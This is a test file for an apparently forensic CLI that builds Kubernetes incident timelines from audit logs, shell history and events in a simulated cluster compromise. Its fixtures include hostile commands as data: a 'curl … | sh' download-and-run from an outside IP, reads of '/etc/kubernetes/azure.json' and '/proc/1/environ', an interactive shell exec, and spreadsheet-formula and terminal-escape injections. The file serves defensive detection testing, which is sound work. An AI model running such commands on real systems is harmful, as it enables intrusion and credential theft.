import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { Writable } from 'node:stream';
import { fileURLToPath } from 'node:url';
import type { AuditEvent } from '../../shared/audit/types.js';
import type { CliIo } from '../../shared/cli/io.js';
import { runCli } from '../../shared/cli/main.js';
import { historyCommand } from '../../shared/sources/commandhistory/historyScript.js';
import { buildTimeline, entryFilter } from '../../shared/timeline/build.js';
import { TIMELINE_CSV_COLUMNS, writeTimeline } from '../../shared/timeline/format.js';
import type { TimelineEntry } from '../../shared/timeline/types.js';
import { COLLECTOR_ACTION, COLLECTOR_USER, writeCompromiseBundle, type CompromiseBundle } from './compromiseBundle.js';

const HERE = dirname(fileURLToPath(import.meta.url));
/** Secret values of the scenario (base64 as stored, and decoded), and the minted token. */
const SECRETS = ['Q0FOQVJZLVNFQ1JFVC1WQUxVRS1kYi1wYXNzd29yZA==', 'Q0FOQVJZLVNFQ1JFVC1WQUxVRS1kYi11c2Vy', 'CANARY-SECRET-VALUE', 'CANARY-TOKEN-VALUE'];

class Sink extends Writable {
  text = '';
  override _write(chunk: Buffer, _enc: BufferEncoding, cb: () => void): void {
    this.text += chunk.toString('utf8');
    cb();
  }
}
function io(): CliIo & { out: Sink; err: Sink } {
  const out = new Sink();
  const err = new Sink();
  return { stdout: out, stderr: err, out, err, env: {}, cwd: HERE };
}
async function render(entries: TimelineEntry[], format: 'table' | 'csv' | 'json'): Promise<string> {
  const s = new Sink();
  await writeTimeline(entries, format, s);
  return s.text;
}

const has = (e: TimelineEntry, rule: string) => e.labels?.some((l) => l.ruleId === rule) ?? false;

let root: string;
let bundle: CompromiseBundle;
beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'timeline-'));
  bundle = await writeCompromiseBundle(root, { identity: COLLECTOR_USER });
});
afterAll(async () => {
  await rm(root, { recursive: true, force: true });
});

describe('timeline of the compromise scenario', () => {
  it('shows the attack in order: secret reads, exec shell, binding creation, anonymous access, clean-up', async () => {
    const { entries } = await buildTimeline(bundle.store);
    for (let i = 1; i < entries.length; i++) expect(Date.parse(entries[i]!.time)).toBeGreaterThanOrEqual(Date.parse(entries[i - 1]!.time));
    const at = (pred: (e: TimelineEntry) => boolean, what: string) => {
      const i = entries.findIndex(pred);
      if (i < 0) throw new Error(`timeline has no ${what}`);
      return i;
    };
    const secretReads = at((e) => has(e, 'secret-read-cross-namespace-sa') && e.actor === 'system:serviceaccount:prod:api', 'secret read');
    const execShell = at((e) => has(e, 'pod-exec') && e.actor === 'masterclient' && e.summary.includes('[/bin/sh -i]'), 'exec shell');
    const binding = at((e) => has(e, 'rbac-binding-powerful-role') && has(e, 'rbac-binding-anonymous-subject'), 'binding creation');
    const anonymous = at((e) => has(e, 'anonymous-success'), 'anonymous access');
    const cleanup = at((e) => has(e, 'cleanup-delete-own-creation'), 'clean-up');
    expect([secretReads, execShell, binding, anonymous, cleanup]).toEqual([...[secretReads, execShell, binding, anonymous, cleanup]].sort((a, b) => a - b));
    expect(new Set([secretReads, execShell, binding, anonymous, cleanup]).size).toBe(5);
    // Before it all, the probing; the binding says what it grants to whom.
    const probe = at((e) => has(e, 'auth-failure-burst'), 'probe burst');
    expect(probe).toBeLessThan(secretReads);
    expect(entries[binding]!.summary).toContain('cluster-admin → User:system:anonymous, Group:system:unauthenticated');
    // And event deletion right after the pod deletion.
    expect(at((e) => has(e, 'event-deletion'), 'event deletion')).toBeGreaterThan(cleanup);
    // None of the attacker's actions is taken for the collector's.
    for (const i of [probe, secretReads, execShell, binding, anonymous, cleanup]) expect(entries[i]!.collector).toBe(false);
  });

  it("marks the collector's own actions, and only those", async () => {
    const { entries } = await buildTimeline(bundle.store);
    const collector = entries.filter((e) => e.collector);
    expect(collector.map((e) => `${e.time} ${e.source} ${e.type}`)).toEqual([
      '2024-06-01T12:00:20.000000Z audit AuditEvent',
      '2024-06-01T12:01:10.000000Z audit AuditEvent',
      '2024-06-01T12:01:10.000Z collector CollectorExec',
    ]);
    const exec = collector.find((e) => e.source === 'audit' && e.object?.startsWith('pods/exec'))!;
    expect(exec.collectorReason).toBe('collector identity ran the shell-history script');
    expect(exec.summary).toContain('<aks-evidence shell-history script>');
    expect(exec.labels?.map((l) => l.ruleId)).toEqual(['pod-exec']);
    expect(collector.find((e) => e.type === 'CollectorExec')!.summary).toMatch(/collector exec .* in prod\/api-5f6d7c8b9-klmno \(api\) → ok exit 0/);
    expect(collector[0]!.collectorReason).toBe('collector identity, during the collection run');
  });

  it('without a known identity, recognizes the collector exec by the manifest action, and not an imitation', async () => {
    const other = await writeCompromiseBundle(root, { runId: 'run-no-identity' });
    const imitation: AuditEvent = {
      ...bundle.events.find((e) => e.user.username === COLLECTOR_USER && e.objectRef?.subresource === 'exec' && e.stage === 'ResponseComplete')!,
      auditID: 'ffffffff-0000-4000-8000-000000000001',
      user: { username: 'masterclient', groups: ['system:masters'] },
      requestReceivedTimestamp: '2024-06-01T11:00:00.000000Z',
      stageTimestamp: '2024-06-01T11:00:01.000000Z',
    };
    const { entries } = await buildTimeline(other.store, { extraAuditEvents: [imitation] });
    const execs = entries.filter((e) => e.source === 'audit' && e.summary.includes('<aks-evidence shell-history script>'));
    expect(execs.map((e) => [e.actor, e.collector, e.collectorReason])).toEqual([
      ['masterclient', false, undefined],
      [COLLECTOR_USER, true, `matches the collector exec recorded in the manifest at ${COLLECTOR_ACTION.at}`],
    ]);
    // The collector's reads are not recognizable without its identity; with --collector-user they are.
    const list = (es: TimelineEntry[]) => es.find((e) => e.actor === COLLECTOR_USER && e.summary.startsWith('list secrets'))!;
    expect(list(entries).collector).toBe(false);
    expect(list((await buildTimeline(other.store, { collectorUsers: [COLLECTOR_USER] })).entries).collector).toBe(true);
    expect(historyCommand('/bin/sh')).toEqual(COLLECTOR_ACTION.command);
  });

  it('says what each exec ran: command, container, terminal and stdin, on the entry and in its summary', async () => {
    const { entries } = await buildTimeline(bundle.store);
    const shell = entries.find((e) => e.actor === 'masterclient' && e.exec?.kind === 'exec')!;
    expect(shell.exec).toEqual({ kind: 'exec', command: ['/bin/sh', '-i'], container: 'api', tty: true, stdin: true });
    expect(shell.summary).toMatch(/^exec \[\/bin\/sh -i\] in prod\/api-5f6d7c8b9-klmno \(api\) tty stdin → 101$/);
    expect(shell.labels?.map((l) => l.ruleId)).toEqual(['pod-exec', 'exec-interactive-shell']);
    expect(shell.labels?.find((l) => l.ruleId === 'pod-exec')?.attack).toEqual(['T1609']);
  });

  it('lists audit events without a time apart from the timeline, still labelled', async () => {
    const timeless: AuditEvent = {
      kind: 'Event',
      apiVersion: 'audit.k8s.io/v1',
      level: '',
      auditID: '',
      stage: '',
      verb: 'create',
      requestURI: '/api/v1/namespaces/prod/pods/web-0/exec?command=cat&command=%2Fetc%2Fkubernetes%2Fazure.json&container=web',
      user: { username: 'mallory' },
      objectRef: { resource: 'pods', namespace: 'prod', name: 'web-0', subresource: 'exec' },
      responseStatus: { code: 101 },
      parseNote: { missing: ['auditID', 'stage', 'level', 'requestReceivedTimestamp', 'stageTimestamp'] },
    };
    const result = await buildTimeline(bundle.store, { extraAuditEvents: [timeless], filter: { sinceMs: Date.parse('2024-06-01T10:00:00Z') } });
    expect(result.entries.some((e) => e.actor === 'mallory')).toBe(false);
    expect(result.untimed.map((e) => [e.actor, e.partial, e.labels?.map((l) => l.ruleId)])).toEqual([['mallory', true, ['pod-exec', 'exec-read-node-credentials']]]);
    expect(result.notes).toContain('1 entry has no time of its own (cut or incomplete audit records): listed apart, after the timeline');
    const table = new Sink();
    await writeTimeline(result.entries, 'table', table, result.untimed);
    expect(table.text).toMatch(
      /Without a time of their own \(cut or incomplete audit records\), not placed on the timeline:\n\(no time\) .*mallory.*exec \[cat \/etc\/kubernetes\/azure\.json\]/,
    );
  });

  it('merges shell history and Kubernetes events, with their own times or marked approximate', async () => {
    const { entries } = await buildTimeline(bundle.store);
    const curl = entries.find((e) => e.type === 'ShellCommand' && e.summary === 'curl -s http://198.51.100.7/x.sh | sh')!;
    expect(curl).toMatchObject({ time: '2024-06-01T10:05:00.000Z', namespace: 'prod', pod: 'api-5f6d7c8b9-klmno', source: 'commandhistory' });
    expect(curl.approximateTime).toBeUndefined();
    const ash = entries.find((e) => e.type === 'ShellCommand' && e.summary === 'cat /proc/1/environ')!;
    expect(ash.approximateTime).toBe(true);
    const pulled = entries.find((e) => e.type === 'KubeEvent' && e.summary.startsWith('Pulled:'))!;
    expect(pulled).toMatchObject({ namespace: 'kube-sys-tools', pod: 'node-agent-x9z8y', object: 'Pod/node-agent-x9z8y' });
  });

  it('filters by user or service account, namespace, pod, time and source', async () => {
    const all = (await buildTimeline(bundle.store)).entries;
    const by = async (filter: Parameters<typeof buildTimeline>[1]) => (await buildTimeline(bundle.store, filter)).entries;
    const anon = await by({ filter: { user: 'system:anonymous' } });
    expect(anon.length).toBeGreaterThan(10);
    expect(anon.every((e) => e.actor === 'system:anonymous')).toBe(true);
    expect((await by({ filter: { user: 'prod/api' } })).map((e) => e.actor)).toEqual(['system:serviceaccount:prod:api', 'system:serviceaccount:prod:api']);
    expect((await by({ filter: { user: 'system:serviceaccount:*' } })).every((e) => e.actor?.startsWith('system:serviceaccount:'))).toBe(true);
    const prodPod = await by({ filter: { pod: 'prod/api-5f6d7c8b9-klmno' } });
    expect(new Set(prodPod.map((e) => e.source))).toEqual(new Set(['audit', 'commandhistory', 'collector', 'events']));
    expect(prodPod.every((e) => e.namespace === 'prod' && e.pod === 'api-5f6d7c8b9-klmno')).toBe(true);
    const window = await by({ filter: { sinceMs: Date.parse('2024-06-01T10:30:00Z'), untilMs: Date.parse('2024-06-01T10:31:00Z') } });
    expect(window.map((e) => e.summary)).toEqual([
      'create clusterrolebindings anonymous-admin (cluster-admin → User:system:anonymous, Group:system:unauthenticated) → 201',
      'list secrets kube-system/* → 200',
    ]);
    const onlyEvents = await by({ filter: { sources: ['events'] } });
    expect(onlyEvents.length).toBe(all.filter((e) => e.source === 'events').length);
    expect(onlyEvents.every((e) => e.type === 'KubeEvent')).toBe(true);
    expect((await by({ filter: { namespace: 'kube-system', labelledOnly: true } })).map((e) => e.labels?.map((l) => l.ruleId).join(','))).toEqual([
      // the probing before the attack: a refused Secret read, labelled as such
      'secret-read-denied',
      'anonymous-success,secret-list',
      'anonymous-success,workload-download-and-run,cronjob-created',
    ]);
    expect((await by({ filter: { hideCollector: true } })).some((e) => e.collector)).toBe(false);
    expect(entryFilter({ user: 'x' })({ time: '2024-01-01T00:00:00Z', source: 'events', type: 'KubeEvent', summary: '', collector: false, evidence: { path: 'p' } })).toBe(false);
  });

  it('renders table, CSV and JSON without a Secret value', async () => {
    const { entries } = await buildTimeline(bundle.store);
    const table = await render(entries, 'table');
    const csv = await render(entries, 'csv');
    const json = await render(entries, 'json');
    expect(table.split('\n')[0]).toMatch(/^TIME \(UTC\)\s+C T SEVERITY/);
    expect(table).toMatch(/2024-06-01T12:01:10\.000Z\s+\* /);
    expect(csv.split('\n')[0]).toBe(TIMELINE_CSV_COLUMNS.join(','));
    expect(JSON.parse(json)).toHaveLength(entries.length);
    for (const text of [table, csv, json]) for (const s of SECRETS) expect(text).not.toContain(s);
    // The evidence itself holds no Secret value either (redacted at collection).
    const { readNdjson } = await import('../../shared/evidence/ndjson.js');
    let raw = '';
    for await (const r of readNdjson(bundle.store, 'sources/audit/all.audit.ndjson.gz')) raw += JSON.stringify(r);
    expect(raw).toContain('db-credentials');
    for (const s of SECRETS) expect(raw).not.toContain(s);
  });

  it('neutralizes spreadsheet formulas and terminal escapes from attacker-written text', async () => {
    const evil: TimelineEntry = {
      time: '2024-06-01T10:00:00Z',
      source: 'commandhistory',
      type: 'ShellCommand',
      summary: '=HYPERLINK("http://x")',
      collector: false,
      evidence: { path: 'p' },
    };
    expect((await render([evil], 'csv')).split('\n')[1]).toContain(`"'=HYPERLINK(""http://x"")"`);
    const { entries } = await buildTimeline(bundle.store, {
      extraAuditEvents: [
        {
          ...bundle.events.find((x) => x.stage === 'ResponseComplete')!,
          auditID: 'esc-1',
          requestURI: '/api/v1/namespaces/x/pods/y/exec?command=echo%1b%5b2J',
          objectRef: { resource: 'pods', namespace: 'x', name: 'y', subresource: 'exec' },
        },
      ],
    });
    const e = entries.find((x) => x.evidence.auditID === 'esc-1')!;
    expect(e.summary).toContain('\\x1b[2J');
    expect(e.summary).not.toContain('\u001b');
  });
});

describe('CLI', () => {
  it('aks-evidence timeline <bundle> --format json --user system:anonymous', async () => {
    const c = io();
    const code = await runCli(['timeline', bundle.dir, '--format', 'json', '--user', 'system:anonymous', '--until', '2024-06-01T11:00:00Z'], c);
    expect(c.err.text).toBe('');
    expect(code).toBe(0);
    const entries = JSON.parse(c.out.text) as TimelineEntry[];
    expect(entries.length).toBeGreaterThan(10);
    expect(entries.every((e) => e.actor === 'system:anonymous' && Date.parse(e.time) <= Date.parse('2024-06-01T11:00:00Z'))).toBe(true);
  });

  it('aks-evidence timeline rejects a bad format or time with a clear message', async () => {
    const c = io();
    expect(await runCli(['timeline', bundle.dir, '--format', 'xml'], c)).toBe(2);
    expect(c.err.text).toMatch(/--format: "xml" is not one of table, csv, json/);
    const d = io();
    expect(await runCli(['timeline', bundle.dir, '--since', '2024-06-01T10:00:00'], d)).toBe(2);
    expect(d.err.text).toMatch(/--since: .* has no time zone/);
    const e = io();
    expect(await runCli(['timeline', bundle.dir, '--sources', 'audit,kubelogs'], e)).toBe(2);
    expect(e.err.text).toMatch(/--sources: kubelogs: not in this bundle; choose from all, audit, collector, commandhistory, containerlogs, events/);
  });

  it('aks-evidence timeline --since 2h counts back from the end of the run', async () => {
    const c = io();
    expect(await runCli(['timeline', bundle.dir, '--format', 'csv', '--since', '2h', '--sources', 'audit'], c)).toBe(0);
    const times = c.out.text
      .trim()
      .split('\n')
      .slice(1)
      .map((l) => Date.parse(l.split(',')[0]!));
    expect(times.length).toBeGreaterThan(3);
    expect(Math.min(...times)).toBeGreaterThanOrEqual(Date.parse('2024-06-01T10:05:00Z'));
  });

  it('aks-evidence audit <files…> labels every supported shape alike', async () => {
    const fixtures = join(HERE, '..', 'fixtures', 'audit');
    const outputs: string[] = [];
    for (const f of ['raw.ndjson', 'aksaudit-export.csv', 'azurediagnostics-rows.json', 'diagnostic-records.json']) {
      const c = io();
      expect(await runCli(['audit', join(fixtures, f), '--format', 'json'], c)).toBe(0);
      const labels = c.out.text
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l) as { ruleId: string; auditID: string });
      outputs.push(
        labels
          .map((l) => `${l.auditID}:${l.ruleId}`)
          .filter((x) => !x.endsWith(':impersonation'))
          .sort()
          .join(' '),
      );
      expect(c.err.text).toMatch(/note: rule unexpected-source-network: no expected networks configured/);
      expect(c.out.text).not.toContain('U0hBUEUtQ0FOQVJZLXBhc3N3b3Jk');
    }
    expect(new Set(outputs).size).toBe(1);
    expect(outputs[0]).toContain('11111111-0000-4000-8000-000000000002:pod-exec');
  });

  it('aks-evidence audit on the scenario log with --allow-cidr and a table', async () => {
    const c = io();
    const file = join(HERE, '..', '..', 'shared', 'simulator', 'kube', 'scenarios', 'compromise.audit.ndjson');
    expect(await runCli(['audit', file, '--allow-cidr', '10.0.0.0/8'], c)).toBe(0);
    expect(c.out.text.split('\n')[0]).toMatch(/^TIME \(UTC\)\s+SEVERITY\s+RULE/);
    expect(c.out.text).toMatch(/unexpected-source-network\s+masterclient/);
    expect(c.err.text).toMatch(/audit event\(s\), \d+ label\(s\): .*anonymous-success/);
    expect(c.err.text).not.toMatch(/note: rule unexpected-source-network/);
    for (const s of SECRETS) expect(c.out.text).not.toContain(s);
  });
});
